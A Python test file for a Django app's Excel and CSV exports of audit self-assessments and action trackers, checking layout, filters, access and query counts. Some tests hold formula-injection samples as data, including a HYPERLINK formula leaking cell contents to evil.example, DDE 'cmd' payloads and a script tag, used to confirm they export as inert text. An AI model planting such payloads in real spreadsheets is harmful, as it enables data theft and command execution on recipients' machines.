"""The assessment as an Excel workbook, and the action tracker as XLSX and CSV."""

import csv
import datetime
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from assessments import workflow
from assessments.models import Action, Evidence
from frameworks.models import Criterion
from tests.conftest import make_assessment
from tests.reports.conftest import fill

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'


def get_workbook(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX
    return response, load_workbook(io.BytesIO(response.content))


def rows(sheet):
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def by_title(sheet):
    titles = [cell.value for cell in sheet[1]]
    return [dict(zip(titles, row, strict=True)) for row in rows(sheet)]


def test_the_workbook_has_entries_evidence_actions_and_recommendations(
    client_for, committee, filled
):
    response, workbook = get_workbook(
        client_for(committee), f"/assessments/{filled.pk}/export.xlsx"
    )
    assert 'filename="Self-assessment 2023-24.xlsx"' in response["Content-Disposition"]
    assert workbook.sheetnames == ["Entries", "Evidence", "Actions", "Recommendations"]
    entries = by_title(workbook["Entries"])
    assert [(e["Ref"], e["Theme"], e["Rating"]) for e in entries] == [
        ("1.1", "Theme 1 – Vision and Leadership", "Good"),
        ("1.2", "Theme 1 – Vision and Leadership", "Good"),
        ("2.1", "Theme 2 – Governance and Accountability", "Good"),
    ]
    assert entries[0]["Summary"] == "Summary of 1.1."
    assert entries[0]["Progress"] == "Not started"
    evidence = by_title(workbook["Evidence"])
    assert [item["Evidence"] for item in evidence if item["Ref"] == "2.1"] == [
        "Evidence 1 for 2.1.",
        "Evidence 2 for 2.1.",
    ]
    actions = by_title(workbook["Actions"])
    assert len(actions) == 7  # two per criterion, one from the recommendation
    first = actions[0]
    assert first["Source"] == "1.1" and first["Action"] == "Action 1 for 1.1"
    assert first["Due date"] == datetime.datetime(2020, 3, 31)  # a real date, not text
    assert workbook["Actions"]["E2"].number_format == "dd/mm/yyyy"
    assert first["Overdue"] == "Yes" and first["Status"] == "Not started"
    assert actions[1]["Due date"] is None and actions[1]["Timescale"] == "Ongoing"
    assert actions[-1]["Source"] == "Best Value Audit 2019 R1"
    recommendations = by_title(workbook["Recommendations"])
    assert recommendations == [
        {
            "Source": "Best Value Audit 2019",
            "Ref": "R1",
            "Recommendation": "The IJB should set out how it demonstrates Best Value.",
            "Actions": 1,
        }
    ]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet.column_dimensions["A"].width > 5


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_be_a_formula_is_written_as_text(client_for, committee, filled, start):
    entry = filled.entries.get(criterion__ref="1.1")
    text = INJECTION if start == "=" else f"{start}1+cmd|' /C calc'!A0"
    Evidence.objects.create(entry=entry, position=5, text=text)
    response, workbook = get_workbook(
        client_for(committee), f"/assessments/{filled.pk}/export.xlsx"
    )
    sheet = workbook["Evidence"]
    (cell,) = [row[2] for row in sheet.iter_rows(min_row=2) if row[2].value == text]
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheets = "".join(
            package.read(name).decode() for name in package.namelist() if "worksheets/" in name
        )
    assert "<f>" not in sheets and "<f " not in sheets  # no formula anywhere


def test_an_approved_assessment_exports_its_approved_state_and_names_the_version(
    client_for, officer, committee, filled
):
    workflow.submit(filled, officer)
    workflow.approve(
        filled,
        committee,
        meeting_date=datetime.date(2024, 6, 3),
        committee_name="Audit Committee",
        minute_reference="7",
    )
    for action in Action.objects.filter(assessment=filled):
        action.status = Action.Status.COMPLETE  # progress after approval, kept in history
        action.save()
    response, workbook = get_workbook(
        client_for(committee), f"/assessments/{filled.pk}/export.xlsx"
    )
    assert 'filename="Self-assessment 2023-24 v1.xlsx"' in response["Content-Disposition"]
    statuses = {action["Status"] for action in by_title(workbook["Actions"])}
    assert statuses == {"Not started"}


def tracker_url(organisation, extension, query=""):
    return f"/organisations/{organisation.slug}/actions.{extension}{query}"


def test_the_tracker_csv_holds_what_its_filters_show(client_for, committee, demo_org, filled):
    Action.objects.filter(entry__criterion__ref="1.2").update(status=Action.Status.COMPLETE)
    response = client_for(committee).get(tracker_url(demo_org, "csv", "?status=complete"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="Demo IJB actions ' in response["Content-Disposition"]
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(row["Source"], row["Action"], row["Status"]) for row in table] == [
        ("1.2", "Action 1 for 1.2", "Complete"),
        ("1.2", "Action 2 for 1.2", "Complete"),
    ]
    assert table[0]["Due date"] == "2020-03-31"
    assert table[0]["Lead officer"] == "D Robertson / J Craig"


def test_the_tracker_csv_writes_formula_like_text_with_an_apostrophe(
    client_for, committee, demo_org, filled
):
    Action.objects.filter(entry__criterion__ref="1.1", position=0).update(
        description=INJECTION, lead_officer="@SUM(1+1)"
    )
    response = client_for(committee).get(tracker_url(demo_org, "csv", "?lead=SUM"))
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["Action"] == "'" + INJECTION
    assert row["Lead officer"] == "'@SUM(1+1)"


def test_the_tracker_xlsx_holds_what_its_filters_show(client_for, committee, demo_org, filled):
    response, workbook = get_workbook(
        client_for(committee), tracker_url(demo_org, "xlsx", "?theme=rec")
    )
    (action,) = by_title(workbook["Actions"])
    assert action["Action"] == "Develop a Best Value framework"
    assert action["Source"] == "Best Value Audit 2019 R1"
    assert action["Theme"] == "From recommendations"
    response, workbook = get_workbook(client_for(committee), tracker_url(demo_org, "xlsx"))
    assert len(by_title(workbook["Actions"])) == 7
    assert workbook["Actions"].freeze_panes == "A2"


def test_other_organisations_and_outsiders_get_not_found(
    client_for, neighbour, alice_client, demo_org, filled
):
    for client in (client_for(neighbour), alice_client):
        assert client.get(f"/assessments/{filled.pk}/export.xlsx").status_code == 404
        assert client.get(tracker_url(demo_org, "csv")).status_code == 404
        assert client.get(tracker_url(demo_org, "xlsx")).status_code == 404


HOSTILE = [
    '<script>alert("x")</script>',
    "=cmd|' /C calc'!A0",
    "Right\u202eto-left override\u202c and a bell\x07 character",
    "A" * 5000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_field_is_kept_as_inert_text(client_for, committee, filled, text):
    entry = filled.entries.get(criterion__ref="1.1")
    entry.summary = text
    entry.save()
    Evidence.objects.create(entry=entry, position=5, text=text)
    Action.objects.filter(assessment=filled).update(description=text, lead_officer=text[:200])
    filled.recommendations.update(text=text, source=text[:200])
    response, workbook = get_workbook(
        client_for(committee), f"/assessments/{filled.pk}/export.xlsx"
    )
    shown = text.replace("\x07", "")
    assert by_title(workbook["Entries"])[0]["Summary"] == shown
    assert shown in [item["Evidence"] for item in by_title(workbook["Evidence"])]
    assert {action["Action"] for action in by_title(workbook["Actions"])} == {shown}
    assert by_title(workbook["Recommendations"])[0]["Recommendation"] == shown
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        names = package.namelist()
        sheets = "".join(package.read(name).decode() for name in names if "worksheets/" in name)
    assert "<f>" not in sheets and "<hyperlink" not in sheets
    assert not any("externalLink" in name for name in names)


def test_the_exports_run_as_many_queries_for_a_big_assessment_as_for_a_small_one(
    client_for, committee, demo_org, bv2020, officer
):
    small = fill(make_assessment(demo_org, bv2020, ["1.1"], officer), evidence=1, actions=1)
    refs = list(Criterion.objects.filter(framework=bv2020).values_list("ref", flat=True)[:20])
    big = fill(make_assessment(demo_org, bv2020, refs, officer, title="Big"), evidence=3, actions=3)
    Action.objects.filter(assessment__in=[small, big]).update(owner=officer)
    client = client_for(committee)
    for path in ("report.docx", "export.xlsx"):
        counts = []
        for assessment in (small, big):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(f"/assessments/{assessment.pk}/{path}").status_code == 200
            counts.append(len(queries))
        assert counts[0] == counts[1], path
